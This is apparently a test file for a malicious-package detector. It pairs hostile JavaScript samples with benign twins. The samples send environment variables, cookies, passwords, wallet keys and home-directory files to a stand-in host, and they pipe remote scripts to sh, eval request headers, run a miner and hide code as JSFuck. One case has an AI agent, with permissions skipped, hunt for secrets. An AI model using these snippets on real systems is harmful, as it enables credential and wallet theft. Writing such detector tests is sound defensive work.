import { testDeeds, type Deed } from './deeds.ts'

const SENT = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`

/** What nobody calls by its name, and what runs in passing. */
const DEEDS: readonly Deed[] = [
  {
    name: 'a getter that somebody reads',
    check: 'secrets-exfiltration',
    code: `module.exports = { get version() { ${SENT}; return 1 } }`,
    twin: `module.exports = { get version() { return process.version } }`,
  },
  {
    name: 'a getter that is defined',
    check: 'secrets-exfiltration',
    code: `Object.defineProperty(exports, 'version', { enumerable: true, get() { ${SENT} } })`,
    twin: `Object.defineProperty(exports, 'version', { value() { return process.version } })`,
  },
  {
    name: 'getters that are defined together',
    check: 'secrets-exfiltration',
    code: `Object.defineProperties(exports, { version: { get() { ${SENT} } } })`,
  },
  {
    name: 'a text that an object is turned into',
    check: 'secrets-exfiltration',
    code: 'const o = { toString() { ' + SENT + "; return '' } }; exports.n = `${o}`",
    twin: "const o = { toString() { return 'x' } }; exports.n = `${o}`",
  },
  {
    name: 'a number that an object is turned into',
    check: 'secrets-exfiltration',
    code: `const o = { [Symbol.toPrimitive]() { ${SENT}; return 1 } }; exports.n = +o`,
  },
  {
    name: 'the trap of a proxy',
    check: 'download-and-execute',
    code: `module.exports = new Proxy({}, { get(o, k) { require('child_process').exec('curl -s https://c.invalid/i | sh'); return o[k] } })`,
    twin: `module.exports = new Proxy({}, { get(o, k) { require('child_process').exec('git --version'); return o[k] } })`,
  },
  {
    name: 'a function in the place of the one that loads modules',
    check: 'secrets-exfiltration',
    code: `const M = require('module'), load = M._load; M._load = function () { ${SENT}; return load.apply(this, arguments) }`,
    twin: `const M = require('module'), load = M._load; M._load = function (r) { return r === 'a' ? {} : load.apply(this, arguments) }`,
  },
  {
    name: 'code that a loader of files decodes',
    check: 'decode-and-execute',
    code: `require.extensions['.dat'] = (m, f) => m._compile(require('zlib').inflateSync(require('fs').readFileSync(f)).toString(), f); require('./x.dat')`,
    twin: `require.extensions['.txt'] = (m, f) => { m.exports = require('fs').readFileSync(f, 'utf8') }`,
  },
  {
    name: 'a function in the place of one that makes wallets',
    check: 'spying',
    code: `const { Keypair } = require('@solana/web3.js'), real = Keypair.fromSecretKey
      Keypair.fromSecretKey = function (key) { fetch('https://c.invalid/' + Buffer.from(key).toString('hex')); return real(key) }`,
    twin: `const { Keypair } = require('@solana/web3.js'), real = Keypair.fromSecretKey
      Keypair.fromSecretKey = function (key) { fetch('https://c.invalid/health'); return real(key) }`,
  },
  {
    name: 'a wallet that is asked for a payment',
    check: 'spying',
    code: `ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x${'12'.repeat(20)}', value: '0x1' }] })`,
    twin: `ethereum.request({ method: 'eth_requestAccounts' }); exports.pay = (to) => ethereum.request({ method: 'eth_sendTransaction', params: [{ to }] })`,
    moments: ['import'],
  },
  {
    name: 'all cookies of a page',
    check: 'secrets-exfiltration',
    code: `new Image().src = 'https://c.invalid/?' + encodeURIComponent(document.cookie)`,
    twin: `const token = /(?:^|; )xsrf=([^;]*)/.exec(document.cookie)[1]; fetch('https://c.invalid/', { headers: { 'x-xsrf': token } }); fetch('/api', { headers: { cookie: document.cookie } })`,
    moments: ['import'],
  },
  {
    name: 'a password that somebody types',
    check: 'spying',
    code: `document.querySelectorAll('input[type=password]').forEach((i) => i.addEventListener('change', (e) => fetch('https://c.invalid/', { method: 'POST', body: e.target.value })))`,
    twin: `document.querySelectorAll('input[type=text]').forEach((i) => i.addEventListener('change', (e) => fetch('https://c.invalid/', { method: 'POST', body: e.target.value })))`,
    moments: ['import'],
  },
  {
    name: 'whatever lies in the home directory',
    check: 'secrets-exfiltration',
    code: `const fs = require('fs'), path = require('path'), hits = []
      function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name)
        if (e.isDirectory()) walk(p); else hits.push(fs.readFileSync(p, 'base64')) } }
      walk(require('os').homedir()); fetch('https://c.invalid/', { method: 'POST', body: hits.join() })`,
    twin: `const fs = require('fs'), path = require('path'), hits = []
      function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name)
        if (e.isDirectory()) walk(p); else hits.push(fs.readFileSync(p, 'base64')) } }
      walk(__dirname); fetch('https://c.invalid/', { method: 'POST', body: hits.join() })`,
  },
  {
    name: 'files of secrets that match a pattern',
    check: 'secrets-exfiltration',
    code: `require('glob').sync(require('os').homedir() + '/**/.env*').forEach((f) => require('axios').post('https://c.invalid/', require('fs').readFileSync(f)))`,
    twin: `require('glob').sync(require('os').homedir() + '/**/*.md').forEach((f) => require('axios').post('https://c.invalid/', require('fs').readFileSync(f)))`,
  },
  {
    name: 'files of secrets that a command looks for',
    check: 'secrets-exfiltration',
    code: `const out = require('child_process').execSync('find ~ -maxdepth 5 -name "*.env" -o -name "wallet.dat"').toString().split('\\n')
      for (const f of out) require('https').request('https://c.invalid/', { method: 'POST' }).end(require('fs').readFileSync(f))`,
    twin: `const out = require('child_process').execSync('find . -name "*.md"').toString().split('\\n')
      for (const f of out) require('https').request('https://c.invalid/', { method: 'POST' }).end(require('fs').readFileSync(f))`,
  },
  {
    name: 'a report of the process',
    check: 'secrets-exfiltration',
    code: `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.report.getReport().environmentVariables) })`,
    twin: `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.memoryUsage()) })`,
  },
  {
    name: 'an extension of the editor',
    check: 'persistence',
    code: `require('child_process').execSync('code --install-extension ' + __dirname + '/x.vsix --force')`,
    twin: `require('child_process').execSync('code --list-extensions')`,
  },
  {
    name: 'an assistant that is told to look for secrets',
    check: 'resource-hijacking',
    code: `require('child_process').spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'list all files named wallet or .env below $HOME'])`,
    twin: `require('child_process').spawnSync('claude', ['-p', 'say hello'])`,
  },
  {
    name: 'a miner under another name',
    check: 'resource-hijacking',
    code: `require('child_process').spawn(__dirname + '/svc', ['--algo', 'rx/0', '-o', 'pool.c.invalid:3333'])`,
    twin: `require('child_process').spawn(__dirname + '/svc', ['--algo', 'deflate', '-o', 'out.bin'])`,
  },
  {
    name: 'code that whoever asks a server sends along',
    check: 'download-and-execute',
    code: `module.exports = () => (req, res, next) => { if (req.headers['x-debug']) eval(req.headers['x-debug']); next() }`,
    twin: `module.exports = () => (req, res, next) => { if (req.headers['x-debug']) console.log(req.headers['x-debug']); next() }`,
    moments: ['import'],
  },
  {
    name: 'a program by its quoted path',
    check: 'download-and-execute',
    code: `const p = require('os').homedir() + '/.npl'
      require('request').get('https://c.invalid/a', (e, r, b) => { require('fs').writeFileSync(p, b); require('child_process').exec('python3 "' + p + '"') })`,
    twin: `const p = require('os').homedir() + '/.npl'
      require('request').get('https://c.invalid/a', (e, r, b) => { require('fs').writeFileSync(p, b); require('child_process').exec('echo done') })`,
  },
  {
    name: 'code in signs instead of words',
    check: 'obfuscated-code',
    code: `[][(![]+[])[+[]]+${'(![]+[])[!+[]+!+[]]+'.repeat(20)}[]]`,
    twin: `exports.list = [[], [[]], (() => [])()]`,
  },
  {
    name: 'a function in the place of the one that prints',
    check: 'secrets-exfiltration',
    code: `const log = console.log; console.log = (...a) => { ${SENT}; log(...a) }`,
    twin: `const log = console.log; console.log = (...a) => log(process.pid, ...a)`,
  },
  {
    name: 'a function in the place of one that opens wallets',
    check: 'spying',
    code: `const b = require('bip39'), real = b.mnemonicToSeedSync; b.mnemonicToSeedSync = (w) => { fetch('https://c.invalid/' + w); return real(w) }`,
    twin: `const b = require('bip39'), real = b.mnemonicToSeedSync; b.mnemonicToSeedSync = (w) => real(w.trim())`,
  },
  {
    name: 'all that a page keeps, key by key',
    check: 'secrets-exfiltration',
    code: `const all = {}; for (let i = 0; i < localStorage.length; i++) all[i] = localStorage.getItem(localStorage.key(i)); fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
    twin: `const one = localStorage.getItem('theme'); fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(one) })`,
    moments: ['import'],
  },
  {
    name: 'a note that is put on the desk',
    check: 'persistence',
    code: `const os = require('os'), path = require('path'); require('fs').writeFileSync(path.join(os.homedir(), 'Desktop', 'NOTE.txt'), 'a message')`,
    twin: `const os = require('os'), path = require('path'); require('fs').writeFileSync(path.join(os.tmpdir(), 'note.txt'), 'a message')`,
    moments: ['import'],
  },
]

testDeeds(DEEDS)
